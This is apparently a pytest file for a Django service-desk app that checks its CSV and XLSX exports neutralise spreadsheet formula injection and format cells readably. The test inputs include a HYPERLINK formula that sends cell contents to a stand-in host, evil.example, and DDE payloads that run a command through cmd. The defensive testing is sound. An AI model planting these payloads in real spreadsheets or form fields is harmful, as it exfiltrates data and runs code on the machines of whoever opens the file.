"""Every CSV/XLSX export writes what users typed as text, never as a formula (OWASP CSV
injection): a leading = + - @ tab or CR (also after spaces, also full-width) is
prefixed with a single quote, in the one helper every export uses."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.test import Client
from openpyxl import load_workbook

from weibao.accounts.services.roles import grant_admin_role
from weibao.core.exports import Percent, neutralise, table_response
from weibao.portal.models import PortalSite
from weibao.portal.services import CHALLENGE_KEY
from weibao.servicedesk.models import Ticket
from weibao.testing.factories import UserFactory

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&G2&H2,"查看详情")'
HOSTILE = [
    HYPERLINK,
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\u3000=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
]


def _csv_cells(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(body)))


def _xlsx_cells(response) -> list:
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def _assert_no_formula(response, fmt: str, hostile: str):
    """No cell is a formula, and the hostile value is there, quoted, as text."""
    if fmt == "xlsx":
        cells = _xlsx_cells(response)
        assert all(cell.data_type != "f" for cell in cells)
        values = [cell.value for cell in cells]
    else:
        values = [value for row in _csv_cells(response) for value in row]
    assert "'" + hostile in values
    assert hostile not in values


@pytest.mark.parametrize("value", HOSTILE)
def test_a_value_that_excel_would_read_as_a_formula_is_quoted(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["门户打不开", "SL-2026-000001", "a=b", "", "13812345678", "'=already"])
def test_ordinary_text_is_left_as_it_is(value):
    assert neutralise(value) == value


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_helper_writes_text_as_text_and_numbers_as_numbers(fmt):
    rows = [[value, 3, Decimal("12.50"), -4] for value in HOSTILE]
    response = table_response(["=标题", "数", "金额", "差"], rows, fmt, stem="t", sheet="s")
    if fmt == "xlsx":
        cells = _xlsx_cells(response)
        assert all(cell.data_type != "f" for cell in cells)
        sheet_rows = [[cell.value for cell in cells[i:i + 4]] for i in range(4, len(cells), 4)]
        assert cells[0].value == "'=标题"
        # XML reads a stored CR back as LF
        assert [row[0] for row in sheet_rows] == ["'" + value.replace("\r", "\n") for value in HOSTILE]
        assert all(row[1] == 3 and row[2] == 12.5 and row[3] == -4 for row in sheet_rows)
    else:
        table = _csv_cells(response)
        assert table[0] == ["'=标题", "数", "金额", "差"]
        assert [row[0] for row in table[1:]] == ["'" + value for value in HOSTILE]
        assert all(row[1:] == ["3", "12.50", "-4"] for row in table[1:])


def test_characters_a_spreadsheet_cannot_hold_do_not_break_the_xlsx_export():
    response = table_response(["主题"], [["门户\x01打不开\x1b"], ["\x00=1+1"]], "xlsx", stem="t", sheet="s")
    assert [cell.value for cell in _xlsx_cells(response)] == ["主题", "门户打不开", "'=1+1"]


@pytest.fixture
def site(contract, desk):  # noqa: F811
    return PortalSite.objects.create(contract=contract, slug="shilong", title="石龙区运维服务门户")


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_portal_subject_is_no_formula_in_the_pms_ticket_export(site, pm, client_for, fmt):
    citizen = Client()
    citizen.get("/portal/shilong/")
    citizen.post("/portal/shilong/", {
        "type": "fault", "name": "王五", "phone": "139-1234-5678", "subject": HYPERLINK,
        "description": "点击提交后无反应", "challenge": str(citizen.session[CHALLENGE_KEY]),
    })
    assert Ticket.objects.get().subject == HYPERLINK  # kept as typed; only the export quotes it
    response = client_for(pm).get("/tickets/", {"export": fmt})
    assert response.status_code == 200
    _assert_no_formula(response, fmt, HYPERLINK)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_username_typed_on_a_failed_login_is_no_formula_in_the_audit_export(client_for, fmt, db):
    hostile = "=1+cmd|' /C calc'!A0"
    Client().post("/accounts/login/", {"username": hostile, "password": "wrong-password"})
    admin = UserFactory(username="audit_admin")
    grant_admin_role(admin, "auditor", by=None)
    response = client_for(admin).get("/audit/", {"export": fmt})
    assert response.status_code == 200
    _assert_no_formula(response, fmt, hostile)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_feedback_figures_export_quotes_text_and_keeps_counts_numbers(pm, client_for, contract, desk, fmt):  # noqa: F811
    contract.number = "@SUM(1+1)"
    contract.save(update_fields=["number"])
    response = client_for(pm).get("/feedback/", {"start": "2026-10-01", "end": "2026-10-31", "export": fmt})
    assert response.status_code == 200
    _assert_no_formula(response, fmt, "@SUM(1+1)")
    if fmt == "xlsx":
        values = {row[0].value: row[1].value for row in load_workbook(io.BytesIO(response.content)).active.iter_rows()}
        assert values["评价数"] == 0


def test_no_export_writes_a_spreadsheet_around_the_helper():
    """CSV and XLSX are written in weibao/core/exports.py only, where cells are made safe."""
    from pathlib import Path

    import weibao

    root = Path(weibao.__file__).parent
    writers = {
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if any(marker in path.read_text(encoding="utf-8") for marker in ("openpyxl", "csv.writer", "csv.DictWriter"))
    }
    assert writers == {"core/exports.py"}


# -- readable spreadsheets (issue 13 item 8) ----------------------------------------------


def _sheet(response):
    return load_workbook(io.BytesIO(response.content)).active


def test_an_xlsx_export_has_a_frozen_bold_header_and_widths_that_fit_its_content():
    subject = "统一身份认证平台法人用户登录失败提示证书错误"
    rows = [["SL-2026-000001", subject, 3], ["SL-2026-000002", "短", 12]]
    sheet = _sheet(table_response(["工单号", "主题", "数"], rows, "xlsx", stem="t", sheet="s"))
    assert sheet.freeze_panes == "A2"
    assert all(cell.font.b for cell in sheet[1])
    assert not any(cell.font.b for cell in sheet[2])
    widths = {letter: sheet.column_dimensions[letter].width for letter in "ABC"}
    assert widths["A"] >= len("SL-2026-000001")
    assert widths["B"] >= 2 * len(subject)  # a Chinese character takes two columns
    assert widths["C"] < widths["A"] < widths["B"]


def test_a_very_long_cell_does_not_make_its_column_wider_than_a_screen():
    sheet = _sheet(table_response(["详情"], [["x" * 5000]], "xlsx", stem="t", sheet="s"))
    assert 10 < sheet.column_dimensions["A"].width <= 80


def test_dates_moments_numbers_and_rates_are_typed_cells_in_shanghai_time():
    moment = dt.datetime(2026, 11, 24, 2, 5, 9, tzinfo=dt.UTC)  # 10:05:09 in Shanghai
    row = [moment, dt.date(2026, 11, 30), 3, Decimal("12.50"), Percent(95.5), None]
    headers = ["创建时间", "日期", "数", "金额", "满意率", "空"]
    cells = list(_sheet(table_response(headers, [row], "xlsx", stem="t", sheet="s")).iter_rows(min_row=2))[0]
    assert cells[0].is_date and cells[0].value == dt.datetime(2026, 11, 24, 10, 5, 9)
    assert "yyyy" in cells[0].number_format and "hh:mm" in cells[0].number_format
    assert cells[1].is_date and cells[1].value == dt.datetime(2026, 11, 30)
    assert cells[1].number_format == "yyyy-mm-dd"
    assert cells[2].value == 3 and cells[3].value == 12.5
    assert cells[4].value == pytest.approx(0.955) and "%" in cells[4].number_format
    table = _csv_cells(table_response(headers, [row], "csv", stem="t", sheet="s"))
    assert table[1] == ["2026-11-24 10:05:09", "2026-11-30", "3", "12.50", "95.5%", ""]


def test_the_ticket_export_writes_its_times_as_dates(pm, client_for, api_client_for, contract, desk, clock):  # noqa: F811
    response = api_client_for(pm).post("/api/v1/tickets/", {
        "contract": contract.pk, "type": "fault", "priority": "p3", "subject": "门户打不开",
        "description": "首页白屏", "channel": "phone", "requester_name": "张三", "requester_phone": "13812345678",
    }, format="json")
    assert response.status_code == 201
    sheet = _sheet(client_for(pm).get("/tickets/", {"export": "xlsx"}))
    headers = [cell.value for cell in sheet[1]]
    created = sheet.cell(row=2, column=headers.index("创建时间") + 1)
    assert created.is_date and created.value == dt.datetime(2026, 11, 24, 10, 0)


def test_the_audit_export_writes_its_times_as_dates_and_sequence_as_numbers(client_for, clock, db):
    admin = UserFactory(username="audit_admin")
    grant_admin_role(admin, "auditor", by=None)
    sheet = _sheet(client_for(admin).get("/audit/", {"export": "xlsx"}))
    assert sheet.freeze_panes == "A2"
    first = list(sheet.iter_rows(min_row=2, max_row=2))[0]
    assert isinstance(first[0].value, int) and first[1].is_date
